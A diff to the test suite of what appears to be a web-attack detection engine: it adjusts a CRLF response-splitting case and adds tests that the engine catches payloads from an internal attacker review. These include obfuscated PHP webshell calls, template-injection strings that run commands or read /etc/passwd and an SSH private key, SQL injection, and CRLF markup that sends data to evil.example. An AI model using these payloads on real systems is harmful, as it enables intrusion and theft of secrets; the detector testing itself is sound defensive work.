@@ -474,7 +474,8 @@ def test_grammar_that_clears_a_construct_also_clears_the_model(
 @pytest.mark.parametrize(
     ("value", "flagged"),
     [
-        ("Intro paragraph\r\n\r\n<b>Bold</b> text", False),
+        ("Here is the intro paragraph\r\n\r\n<b>Bold</b> text", False),
+        ("Intro paragraph\r\n\r\n<b>Bold</b> text", True),
         ("<p>Hi</p>\n\n<p>Bye</p>", False),
         ("## Install\n\n<details>\n<summary>Click</summary>\n</details>", False),
         ("en\r\n\r\n<h1>Hacked</h1>", True),
@@ -488,8 +489,9 @@ def test_a_paragraph_break_before_markup(
     engine: DetectionEngine, value: str, flagged: bool
 ) -> None:
     """A blank line before markup splits a response when what precedes it can be a header's
-    value (one token, header lines, an encoded break) or the body is active or a status line;
-    words or markup, a paragraph break and inert markup are a text box's content."""
+    value (a few words, header lines, an encoded break) or the body is active or a status
+    line; a paragraph, a heading or an element, a paragraph break and inert markup are a text
+    box's content."""
     assert engine.detect(value)["is_threat"] is flagged
 
 
@@ -573,6 +575,48 @@ def test_protocol_and_file_formats_that_carry_a_payload(
 )
 def test_pasted_logs_and_addresses(engine: DetectionEngine, value: str) -> None:
     assert not engine.detect(value)["is_threat"]
+
+
+@pytest.mark.parametrize(
+    ("value", "named"),
+    [
+        # PHP that hides its call from a list of dangerous functions.
+        ("<?php system/**/(filter_input(INPUT_GET,'c')); ?>", "file_upload"),
+        ("<?php 'system'(filter_input(INPUT_GET,'c')); ?>", "file_upload"),
+        ("<?php ('sys'.'tem')('id'); ?>", None),
+        ("<?php $f=filter_input(INPUT_GET,'f'); $f /**/ (filter_input(INPUT_GET,'c')); ?>", None),
+        ("<?php include '/tmp/sess_abc'; ?>", None),
+        ("<?php include 'uploads/avatar.jpg'; ?>", None),
+        ("<?php highlight_string(var_export(get_defined_constants(true)['user'], true)); ?>",
+         None),
+        # Ruby and Pug interpolation that calls without parentheses or reaches secrets.
+        ("Hello #{Kernel.send :system, :id.to_s}, welcome back to your dashboard", "ssti"),
+        ("Hello #{process.env}, welcome back to your dashboard", "ssti"),
+        # A filter handed a path, or a tag naming a secret.
+        ("{{ 'C:/Users/Administrator/.ssh/id_rsa'|file_excerpt(1,30) }}", "ssti"),
+        ("{{ g|pprint }}", "ssti"),
+        ("{{ current_user.api_token|e }}", "ssti"),
+        # A response split after a short head, or before markup that loads or submits.
+        ('x y\r\n\r\n<img src="https://evil.example/log?d=', "crlf"),
+        ("report 2024.pdf\r\n\r\n<h1>Your session expired</h1>", "crlf"),
+        ("x y\r\n\r\n<button formaction=https://evil.example>Submit</button>", "crlf"),
+        ("uploads/avatar.jpg%00", "path_traversal"),
+        # Names: a SQL comment is no XPath node test; a decoy browser call yields to a proven
+        # server-side evaluation.
+        ("admin' or sleep(/**/5)-- -", "sqli"),
+        ("{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}{{alert(1)}}",
+         "ssti"),
+        ("${7*7}${alert(1)}", "ssti"),
+    ],
+)
+def test_review_of_the_grammar_exemptions(
+    engine: DetectionEngine, value: str, named: str | None
+) -> None:
+    """Payloads an attacker review (session 12) built against the new exemptions and names:
+    each is caught, and named as shown where the name is not a judgement call (None)."""
+    result = engine.detect(value)
+    assert result["is_threat"]
+    assert named is None or result["attack_class"] == named
 
 
 def test_documentation_showing_a_template_sum_reads_as_prose(engine: DetectionEngine) -> None:
